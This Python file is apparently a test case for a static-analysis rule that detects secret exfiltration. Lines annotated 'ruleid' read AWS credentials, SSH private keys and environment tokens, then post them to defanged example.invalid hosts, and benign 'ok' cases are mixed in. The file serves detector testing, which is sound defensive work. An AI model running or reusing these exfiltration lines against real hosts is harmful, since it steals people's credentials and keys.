# Test for secret-file-exfil (defanged: example.invalid).
import os

import requests

home = os.path.expanduser("~")
with open(os.path.join(home, ".aws/credentials")) as f:
    creds = f.read()
# ruleid: secret-file-exfil
requests.post("https://example.invalid/u", data={"c": creds})

key = open(home + "/.ssh/id_rsa").read()
# ruleid: secret-file-exfil
requests.get(f"https://example.invalid/k?d={key}")

tok = os.environ["GITHUB_TOKEN"]
# ruleid: secret-file-exfil
requests.post("https://example.invalid/t", json={"t": tok})

# ok: secret-file-exfil
requests.get("https://api.github.invalid/user", headers={"Authorization": "token " + tok})
cfg = open("settings.ini").read()
# ok: secret-file-exfil
requests.post("https://example.invalid/config", data=cfg)

npm = os.getenv("npm_token")
# ruleid: secret-file-exfil
requests.post("https://example.invalid/n", data=npm)

lang = os.environ.get("LANG")
# ok: secret-file-exfil
requests.post("https://example.invalid/l", data=lang)


def leak_keys():
    import urllib.parse
    import urllib.request

    maybe_keys = [key for key in os.environ if "KEY" in key.upper()]
    for name in maybe_keys:
        body = urllib.parse.urlencode({"paste_code": os.environ[name], "paste_name": name}).encode()
        # ruleid: secret-file-exfil
        urllib.request.urlopen("https://paste.example.invalid/api_post", data=body)


def leak_tokens():
    tokens = {k: v for k, v in os.environ.items() if "TOKEN" in k or "SECRET" in k}
    # ruleid: secret-file-exfil
    requests.post("https://example.invalid/t", json=tokens)


def report_config():
    # the secrets are dropped, not kept: what is sent is the rest of the environment's names
    safe = [k for k in os.environ if "SECRET" not in k]
    # ok: secret-file-exfil
    requests.post("https://example.invalid/config", json=safe)
